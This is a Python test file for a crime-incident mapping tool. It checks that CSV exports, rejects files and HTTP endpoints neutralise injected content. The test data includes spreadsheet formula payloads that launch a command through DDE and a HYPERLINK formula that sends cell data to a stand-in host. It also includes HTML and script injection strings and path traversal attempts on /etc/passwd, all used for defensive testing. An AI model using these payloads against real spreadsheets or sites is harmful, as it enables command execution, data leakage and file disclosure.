"""Text that would run as a formula in a spreadsheet or as HTML in a page."""

from __future__ import annotations

import csv
import io
import json
import urllib.error
import urllib.request
from typing import TYPE_CHECKING, Any

import pytest

from tests.faults.harness import CHICAGO, EVERYTHING, Workspace, write_csv
from tests.faults.here import Here

if TYPE_CHECKING:
    from pathlib import Path

FORMULAS = (
    "=cmd()|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid?x="&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    " =1+1",
)
HTML = '<img src=x onerror="window.hacked=1"><script>window.hacked=1</script>'


def _rows() -> list[dict[str, object]]:
    rows = CHICAGO.rows(40, seed=9, prefix="C")
    for row, text in zip(rows[10:], FORMULAS, strict=False):
        row["incident_id"] = text
    return rows


@pytest.fixture(scope="module")
def loaded(chicago: Workspace, tmp_path_factory: pytest.TempPathFactory) -> Workspace:
    folder = tmp_path_factory.mktemp("formulas")
    space = chicago.copy(folder / "home")
    done = space.load(write_csv(folder / "in.csv", _rows()))
    assert done.code == 0, done.err
    assert space.incidents() == 40
    return space


def harmless(text: str) -> None:
    """Assert that no cell of a CSV starts a formula, and that negative numbers stay numbers."""
    found = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert len(found) > 1
    for row in found:
        for cell in row:
            if cell.lstrip()[:1] in ("=", "+", "-", "@") or cell[:1] in ("\t", "\r", "\n"):
                float(cell)


def _ids(text: str) -> set[str]:
    return {row["incident_id"] for row in csv.DictReader(io.StringIO(text.lstrip("\ufeff")))}


def _check_incidents(text: str) -> None:
    harmless(text)
    ids = _ids(text)
    assert {"'" + f for f in FORMULAS if f[0] in "=+-@\t"} <= ids
    lons = [r["lon"] for r in csv.DictReader(io.StringIO(text.lstrip("\ufeff"))) if r["lon"]]
    assert len(lons) > 30
    assert all(-88 < float(lon) < -87 for lon in lons)


def test_query_output_is_harmless(loaded: Workspace) -> None:
    _check_incidents(loaded.query("incidents", EVERYTHING))


def test_query_json_keeps_the_text(loaded: Workspace) -> None:
    done = loaded.run("query", "incidents", EVERYTHING, "--format", "json")
    assert done.code == 0, done.err
    text = json.dumps(json.loads(done.out))
    assert json.dumps(FORMULAS[0])[1:-1] in text


def test_rejects_are_harmless(loaded: Workspace, tmp_path: Path) -> None:
    space = loaded.copy(tmp_path / "home")
    rows = CHICAGO.rows(40, seed=9, prefix="D")
    for row, text in zip(rows, FORMULAS, strict=False):
        row["time_from"] = text
    rows[20]["lat"] = "=1+1"
    rows[21]["lat"] = -95.5
    rejects = tmp_path / "rejects.csv"
    file = write_csv(tmp_path / "in.csv", rows)
    done = space.load(file, options=("--rejects", rejects, "--json"))
    assert done.code == 0, done.err
    assert done.json["rejected"] == len(FORMULAS) + 2
    harmless(rejects.read_text(encoding="utf-8-sig"))


def test_a_file_name_is_harmless(loaded: Workspace, tmp_path: Path) -> None:
    space = loaded.copy(tmp_path / "home")
    rows = CHICAGO.rows(40, seed=9, prefix="D")
    rows[3]["lat"] = "north"
    file = write_csv(tmp_path / "=1+1 [bold]x.csv", rows)
    rejects = tmp_path / "rejects.csv"
    done = space.load(file, options=("--rejects", rejects))
    assert done.code == 0, done.err
    harmless(rejects.read_text(encoding="utf-8-sig"))
    assert "[bold]" in json.dumps(space.status())


def _district_with_html(folder: Path) -> Workspace:
    scenes, offences = folder / "scenes.csv", folder / "offences.csv"
    with scenes.open("w", newline="") as handle:
        csv.writer(handle).writerows([["code", "name_en"], ["FLAT", HTML], ["STREET", "=1+1"]])
    with offences.open("w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerows([["code", "name_en"], ["BURGLARY", HTML], ["FIRE", "@SUM(A1)"]])
    extra = ("--scenes", scenes, "--offences", offences)
    space = Workspace.create(folder / "home", CHICAGO, *(str(e) for e in extra))
    rows = CHICAGO.rows(60, seed=4, prefix="<b onclick=alert(1)>")
    for row in rows:
        row["type"], row["scene"] = "BURGLARY", "FLAT"
    done = space.load(write_csv(folder / "in.csv", rows))
    assert done.code == 0, done.err
    return space


def test_exports_over_http(loaded: Workspace) -> None:
    with Here(loaded.home) as server:
        code, body = server.get(f"/export/incidents.csv?{EVERYTHING}")
        assert code == 200
        _check_incidents(body.decode())
        for name in ("cells", "sectors", "hours", "weeks", "types", "scenes"):
            code, body = server.get(f"/export/{name}.csv?{EVERYTHING}")
            assert code == 200, name
            harmless(body.decode())
        attack = "types=%3Cscript%3Ealert(1)%3C/script%3E"
        for path in ("/api/view", "/api/card", "/api/pins", "/export/types.csv"):
            code, body = server.get(f"{path}?{attack}")
            assert code == 400, path
            assert b"types" in body
            assert b"Traceback" not in body
            _escaped(server, f"{path}?{attack}")
        assert server.get("/export/passwords.csv")[0] == 404
        for path in ("../../../../etc/passwd", "..%2f..%2fdistrict.toml", "/etc/passwd"):
            body = server.get(f"/api/layers/{path}.geojson")[1] + server.get(f"/assets/{path}")[1]
            assert b"root:" not in body
            assert b"timezone" not in body
        assert server.get("/api/geometry/nonsense/9")[0] == 404


def _escaped(server: Here, path: str) -> None:
    """Assert that an answer with somebody's markup is not sent as HTML."""
    try:
        request = urllib.request.Request(
            f"http://127.0.0.1:{server.port}{path}", headers={"Cookie": f"ypo={server.session}"}
        )
        answer = urllib.request.urlopen(request, timeout=20)
    except urllib.error.HTTPError as error:
        answer = error
    with answer:
        kind, body = answer.headers.get_content_type(), answer.read()
    if kind == "text/html":
        assert b"<script>alert(1)" not in body, path
        assert b"<img src=x" not in body, path


@pytest.mark.browser
def test_markup_in_names_never_runs(tmp_path: Path, browser: Any) -> None:
    space = _district_with_html(tmp_path)
    context = browser.new_context()
    with Here(space.home) as server:
        for path in ("/", "/api/config", f"/api/view?{EVERYTHING}"):
            _escaped(server, path)
        page = context.new_page()
        address = f"http://127.0.0.1:{server.port}"
        context.add_cookies([{"name": "ypo", "value": server.session, "url": address}])
        dialogs: list[str] = []
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        for path in (f"/?{EVERYTHING}&lang=en", f"/?{EVERYTHING}&lang=da", "/staffing", "/safety"):
            page.goto(f"{address}{path}")
            page.wait_for_load_state("networkidle")
            page.mouse.move(600, 400)
            page.wait_for_timeout(700 if "?" in path else 100)
            assert page.evaluate("window.hacked") is None
            assert page.locator("img[src='x']").count() == 0
        assert not dialogs
        context.close()
